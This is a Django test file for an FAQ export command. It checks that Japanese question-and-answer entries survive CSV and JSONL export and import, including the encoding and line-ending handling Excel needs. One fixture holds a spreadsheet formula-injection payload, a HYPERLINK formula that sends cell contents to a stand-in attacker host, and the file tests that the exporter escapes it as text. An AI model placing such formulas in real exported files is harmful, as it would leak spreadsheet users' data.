"""export_faq: CSV and JSONL that Excel opens and import_faq reads back as the same knowledge base."""

import codecs
import csv
import io
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from apps.faq.importers import FaqExportError, faq_bytes_parse, faq_export_file, faq_import_file, faq_rows_render
from apps.faq.models import KbRevision
from apps.faq.services import FaqRow
from tests.faq.factories import FaqRowFactory, faq_entries_create

# Text that breaks naive CSV and JSON writers: separators, quotes, line breaks, Japanese punctuation.
TRICKY = [
    FaqRowFactory(
        external_id="t-1",
        question='「ログイン」できない, "至急"',
        answer="手順:\n1. アプリを再起動\n2. それでも駄目なら、お問い合わせください。",
        category="accounts",
        tags=("ログイン", "アプリ"),
        alt_questions=("サインインできない", "入れない, どうする？"),
    ),
    FaqRowFactory(
        external_id="t-2", question="返品は？", answer="30日以内です。", category="", tags=(), alt_questions=()
    ),
    FaqRowFactory(external_id="t-3", question="旧プラン", answer="終了しました。", is_active=False),
]


@pytest.fixture
def tricky_entries(db):
    faq_entries_create(*TRICKY)


def export_bytes(**kwargs) -> bytes:
    buffer = io.BytesIO()
    faq_export_file(buffer, **kwargs)
    return buffer.getvalue()


@pytest.mark.django_db
def test_csv_export_has_a_bom_for_excel_and_the_import_columns(tricky_entries):
    data = export_bytes(fmt="csv")

    assert data.startswith(codecs.BOM_UTF8)
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0] == "id,question,answer,category,tags,alt_questions,is_active"
    # Records end in CRLF; line breaks inside a quoted answer stay "\n".
    assert lines[1].startswith('t-1,"「ログイン」できない, ""至急""","手順:\n1. アプリを再起動\n')
    assert lines[1].endswith(',ログイン|アプリ,"サインインできない|入れない, どうする？",true')
    assert lines[2] == "t-2,返品は？,30日以内です。,,,,true"
    assert "t-3" not in data.decode("utf-8-sig")  # inactive entries only when asked


@pytest.mark.django_db
def test_csv_export_in_cp932_for_older_excel(tricky_entries):
    data = export_bytes(fmt="csv", encoding="cp932", include_inactive=True)

    text = data.decode("cp932")
    assert "「ログイン」できない" in text and text.rstrip().endswith("旧プラン,終了しました。,accounts,設定,,false")


@pytest.mark.django_db
def test_jsonl_export_writes_one_object_per_line(tricky_entries):
    lines = export_bytes(fmt="jsonl").decode("utf-8").splitlines()

    assert [json.loads(line)["id"] for line in lines] == ["t-1", "t-2"]
    assert json.loads(lines[0]) == {
        "id": "t-1",
        "question": '「ログイン」できない, "至急"',
        "answer": "手順:\n1. アプリを再起動\n2. それでも駄目なら、お問い合わせください。",
        "category": "accounts",
        "tags": ["ログイン", "アプリ"],
        "alt_questions": ["サインインできない", "入れない, どうする？"],
        "is_active": True,
    }
    assert list(json.loads(lines[0])) == ["id", "question", "answer", "category", "tags", "alt_questions", "is_active"]
    assert "ログイン" in lines[0]  # readable Japanese, not \u escapes


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "encoding"), [("faq.csv", None), ("faq.csv", "cp932"), ("faq.csv", "utf-8"), ("faq.jsonl", None)]
)
def test_export_then_import_is_a_no_op(tmp_path, tricky_entries, name, encoding):
    path = tmp_path / name
    faq_export_file(path, encoding=encoding, include_inactive=True)
    revisions = KbRevision.objects.count()

    report = faq_import_file(path)

    assert report.errors == [] and report.created == report.updated == []
    assert report.unchanged == ["t-1", "t-2", "t-3"]
    assert report.revision is None and KbRevision.objects.count() == revisions


@pytest.mark.django_db
def test_cp932_export_refuses_text_it_cannot_bring_back_and_writes_nothing(tmp_path):
    # 〜 (U+301C) is written as 0x8160 but read back as ～ (U+FF5E); an emoji has no CP932 code at all.
    faq_entries_create(FaqRowFactory(external_id="t-hours", answer="平日9時〜18時です。"))
    path = tmp_path / "faq.csv"

    with pytest.raises(FaqExportError, match='entry t-hours: "〜" \\(U\\+301C\\) would be read back as "～"'):
        faq_export_file(path, encoding="cp932")
    assert not path.exists()

    faq_entries_create(FaqRowFactory(external_id="t-hours", answer="平日9時～18時です🙂"))
    with pytest.raises(FaqExportError, match="U\\+1F642\\) cannot be written in cp932"):
        faq_export_file(path, encoding="cp932")


@pytest.mark.django_db
def test_export_to_a_text_stream_writes_text():
    faq_entries_create(*TRICKY)
    out = StringIO()

    report = faq_export_file(out, fmt="jsonl")

    assert report.entries == 2 and out.getvalue().count("\n") == 2


# --- Round trip for any valid row (no database) ----------------------------------------------------------

_one_line = st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp"))
_text = st.text(_one_line, min_size=1, max_size=40).map(str.strip).filter(bool)
_item = _text.filter(lambda s: "|" not in s)
_answer = st.lists(_text, min_size=1, max_size=3).map("\n".join)
_rows = st.lists(
    st.builds(
        FaqRow,
        external_id=st.text("abcxyz0189-_.:アイ", min_size=1, max_size=20),
        question=_text,
        answer=_answer,
        category=st.one_of(st.just(""), _text.filter(lambda s: len(s) <= 100)),
        tags=st.lists(_item.filter(lambda s: len(s) <= 50), max_size=4).map(tuple),
        alt_questions=st.lists(_item, max_size=4).map(tuple),
        is_active=st.booleans(),
    ),
    min_size=1,
    max_size=5,
    unique_by=lambda row: row.external_id,
)


# Cells a spreadsheet would run as formulas, and cells that already look escaped.
_FORMULA_ROWS = [
    FaqRow(
        external_id="-f1",
        question='=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")',
        answer="- 手順1\n- 手順2",
        category="@SUM(A1)",
        tags=("+81", "＝１＋１"),
        alt_questions=("'=すでにアポストロフィ付き", "''-二つ", "'普通のアポストロフィ"),
    )
]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text():
    [_, line] = [text for _, text in faq_rows_render(_FORMULA_ROWS, fmt="csv")]

    cells = next(csv.reader(io.StringIO(line)))
    assert cells[:4] == ["'-f1", "'" + _FORMULA_ROWS[0].question, "'- 手順1\n- 手順2", "'@SUM(A1)"]
    assert cells[4] == "'+81|＝１＋１"  # a spreadsheet reads only the start of a cell
    assert cells[5] == "'" + "'=すでにアポストロフィ付き|''-二つ|'普通のアポストロフィ"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠")]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=_rows)
@example(rows=_FORMULA_ROWS)
def test_any_valid_rows_survive_render_and_parse(fmt, rows):
    data = "".join(text for _, text in faq_rows_render(rows, fmt=fmt)).encode("utf-8")

    result = faq_bytes_parse(data, fmt=fmt)

    assert result.errors == []
    assert [parsed.row for parsed in result.rows] == rows


# --- The management command ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_command_writes_a_file_that_imports_back_unchanged(tmp_path, tricky_entries):
    path = tmp_path / "out.jsonl"
    out = StringIO()

    call_command("export_faq", str(path), "--include-inactive", stdout=out)

    assert "Wrote 3 entries" in out.getvalue()
    assert faq_import_file(path).unchanged == ["t-1", "t-2", "t-3"]


@pytest.mark.django_db
def test_command_writes_csv_to_standard_output(capsysbinary, tricky_entries):
    call_command("export_faq", "-", "--encoding", "cp932")

    captured = capsysbinary.readouterr()
    assert captured.out.decode("cp932").startswith("id,question,answer,")
    assert b"Wrote 2 entries" in captured.err


@pytest.mark.django_db
def test_command_fails_clearly_when_the_encoding_cannot_hold_the_text(tmp_path):
    faq_entries_create(FaqRowFactory(external_id="t-emoji", answer="ありがとうございます🙇"))

    with pytest.raises(CommandError, match="entry t-emoji.*Nothing was written"):
        call_command("export_faq", str(tmp_path / "faq.csv"), "--encoding", "cp932", stdout=StringIO())
